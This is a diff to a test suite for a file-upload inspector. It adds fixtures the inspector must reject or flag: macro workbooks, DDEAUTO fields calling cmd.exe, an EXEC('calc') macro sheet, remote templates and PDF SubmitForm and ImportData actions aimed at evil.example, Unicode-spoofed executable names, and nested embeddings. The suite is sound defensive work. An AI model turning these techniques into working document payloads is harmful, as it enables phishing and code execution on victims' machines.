@@ -23,6 +23,12 @@ async function lyingZip() {
 const many = Object.fromEntries(
   Array.from({ length: archiveLimits.maxMembers + 1 }, (_, index) => [`${index}.txt`, '']),
 );
+/** A workbook of Excel 97 whose first sheet has this type. */
+function workbookOf(type: number): Buffer {
+  const workbook = Buffer.alloc(4096);
+  workbook.set([0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, type]);
+  return workbook;
+}
 type RejectedCase = [
   about: string,
   reason: string,
@@ -66,6 +72,48 @@ describe('an inspection rejects', () => {
       ],
     ),
     [
+      'a document with macros under a name with a space at its end, inside a zip',
+      'macros',
+      'a.docm ',
+      async () => zipOf({ 'a.docm ': await zipOf(withMacros) }),
+    ],
+    ...['word/embeddings/a.docm', 'word/media/image1.png'].map(
+      (part): RejectedCase => [
+        `a document with macros inside a Word document as ${part}`,
+        'macros',
+        part,
+        async () => zipOf({ ...document, [part]: await zipOf(withMacros) }),
+        'a.docx',
+      ],
+    ),
+    [
+      'an old document with macros inside a Word document inside a Word document',
+      'macros',
+      'word/embeddings/b.doc',
+      async () =>
+        zipOf({
+          ...document,
+          'word/embeddings/a.docx': await zipOf({
+            ...document,
+            'word/embeddings/b.doc': wordWithMacros(),
+          }),
+        }),
+      'a.docx',
+    ],
+    [
+      'a workbook with a macro sheet inside a zip',
+      'macros',
+      'a.xlsm',
+      async () =>
+        zipOf({ 'a.xlsm': await zipOf({ 'xl/macrosheets/sheet1.xml': '<f>EXEC("calc")</f>' }) }),
+    ],
+    [
+      'an old workbook with a macro sheet inside a zip',
+      'macros',
+      'a.xls',
+      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(1) }) }),
+    ],
+    [
       'a document with macros inside a zip',
       'macros',
       'x/a.docm',
@@ -98,7 +146,7 @@ describe('an inspection rejects', () => {
           async () => zipOf({ [`a.${kind}`]: await zipOf(withMacros) }),
         ],
       ),
-    ...'7z arj bz2 cab gz img iso jar lzh tar tgz vhd xz zst'
+    ...'7z ace arj bz2 cab gz img iso jar lzh tar tgz vhd vhdx xz zipx zst'
       .split(' ')
       .map(
         (kind): RejectedCase => [
@@ -163,6 +211,12 @@ describe('an inspection rejects', () => {
       'x/a.scr. ',
       'a.vbs',
       'a.url',
+      ...'chm hlp desktop diagcab xbap rdp fileloc inetloc terminal appcontent-ms theme apk pl rb php so'
+        .split(' ')
+        .map((kind) => `a.${kind}`),
+      'a.exe\u200b',
+      'a.exe\u00a0.\u2060',
+      'Setup.app/Contents/MacOS/Setup',
       'proof\u202efdp.exe',
       'proof\u202excod.png',
     ].map(
@@ -218,6 +272,10 @@ const activeParts: Record<string, Record<string, string>> = {
     'word/_rels/document.xml.rels': relation('aFChunk', 'a.mht', ''),
   },
   'an embedded object': { 'word/embeddings/oleObject1.bin': 'OLE' },
+  'a document as an object': {
+    'word/_rels/document.xml.rels': relation('package', 'embeddings/a.docx', ''),
+  },
+  'a program inside under another name': { 'word/embeddings/a.dat': 'MZ\u0090' },
   'a control': { 'word/activeX/activeX1.bin': 'OLE' },
   'a field that runs a command': withFields('<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
   'a field that runs a command, split into several runs': withFields(
@@ -238,6 +296,20 @@ const activeParts: Record<string, Record<string, string>> = {
   },
   'an object under an unusual name': {
     'word/_rels/document.xml.rels': relation('oleObject', 'embeddings/picture.png', ''),
+  },
+  'a field under another prefix': withFields(
+    '<x:instrText xmlns:x="w">DDE</x:instrText><x:instrText>AUTO c:\\cmd</x:instrText>',
+  ),
+  'a field of one element under another prefix': withFields('<é:fldSimple é:instr="DDEAUTO c"/>'),
+  'a field in a main part elsewhere': { 'doc/main.xml': '<w:fldSimple w:instr="DDEAUTO c"/>' },
+  'a field in a part with another extension': {
+    'word/main.foo': '\n<w:fldSimple w:instr="DDEAUTO c"/>',
+  },
+  'a template elsewhere under another prefix': {
+    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example').replaceAll(
+      /(<\/?)R/g,
+      '$1a-b:R',
+    ),
   },
   'a field in the glossary': {
     'word/glossary/document.xml': "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>",
@@ -346,6 +418,21 @@ describe('an inspection marks', () => {
         'a.docx',
       ],
     ),
+    ...[
+      '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>',
+      '<draw:image xlink:href="http://evil.example/a.png"/>',
+      '<draw:image draw:name=">" xlink:href="\\\\evil\\a.png"/>',
+      '<text:section-source xlink:href="file://evil/a.odt"/>',
+      '<style:background-image xlink:href="//evil/a.png"/>',
+    ].map(
+      (xml): MarkCase => [
+        `a document of LibreOffice with ${xml} inside a zip`,
+        ['script'],
+        async () =>
+          zipOf({ 'a.odt': await zipOf({ 'content.xml': '<a/>', 'styles.xml': `<o>${xml}</o>` }) }),
+        'a.zip',
+      ],
+    ),
     [
       'an HTML page without the usual tags inside a zip',
       ['script'],
@@ -366,6 +453,12 @@ describe('an inspection marks', () => {
       'a.zip',
     ],
     [
+      'RTF with a template elsewhere inside a zip',
+      ['script'],
+      () => zipOf({ 'a.rtf': '{\\rtf1{\\*  \\template http://evil.example}}' }),
+      'a.zip',
+    ],
+    [
       'a workbook with a DDE link inside a zip',
       ['script'],
       async () =>
@@ -375,6 +468,34 @@ describe('an inspection marks', () => {
           }),
         }),
       'a.zip',
+    ],
+    ...[
+      '/SubmitForm /F (http://evil.example)',
+      '/ImportData /F (\\\\\\\\evil\\\\a)',
+      '/GoToR /F (\\\\\\\\evil\\\\a.pdf)',
+      '/GoToE /T << /R /C /N (a) >>',
+      '/Rendition /R 11 0 R',
+    ].map(
+      (action): MarkCase => [
+        `a PDF with the action ${action}`,
+        ['script'],
+        () => pdfOf('/OpenAction 10 0 R', `<< /S ${action} >>`),
+      ],
+    ),
+    [
+      'a PDF with a program of media',
+      ['script'],
+      () => pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>'),
+    ],
+    [
+      'a PDF with an associated file',
+      ['attachment'],
+      () =>
+        pdfOf(
+          '/AF [10 0 R]',
+          '<< /Type /Filespec /F (a.exe) /E#46 << /F 11 0 R >> >>',
+          '<< /Length 2 >>\nstream\nMZ\nendstream',
+        ),
     ],
     [
       'a PDF with a script that opens its page',
@@ -520,16 +641,38 @@ describe('an inspection accepts without a mark', () => {
     ['a Word document', () => zipOf(document), 'a.docx'],
     [
       'a Word document with links and a chart',
-      () =>
+      async () =>
         zipOf({
           ...document,
           'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
-          'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK',
+          'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/a.xlsx', ''),
+          'word/embeddings/a.xlsx': await zipOf({ 'xl/workbook.xml': '<workbook/>' }),
           'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
         }),
       'a.docx',
     ],
     ['an old Word document', () => compoundFile(wordStreams()), 'a.doc'],
+    [
+      'an old workbook inside a zip',
+      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(0) }) }),
+      'a.zip',
+    ],
+    [
+      'a document of LibreOffice with links and a picture inside a zip',
+      async () =>
+        zipOf({
+          'a.odt': await zipOf({
+            'content.xml':
+              '<text:a xlink:type="simple" xlink:href="https://example.eu">a</text:a><draw:image xlink:href="Pictures/a.png"/>',
+          }),
+        }),
+      'a.zip',
+    ],
+    [
+      'a zip of files whose names only contain an extension of programs',
+      () => zipOf({ 'example.com/letter.txt': 'a', 'a.exe.txt': 'a', 'a.so.2026.png': 'a' }),
+      'a.zip',
+    ],
     ['a zip of pictures', () => zipOf({ 'a.png': text, 'folder/b..png': text }), 'a.zip'],
     ['a zip of text that packs well', () => zipOf({ 'a.txt': zeros(19) }), 'a.zip'],
     ['a zip in a zip', async () => zipOf({ 'a.zip': await zipOf({ 'a.txt': 'a' }) }), 'a.zip'],
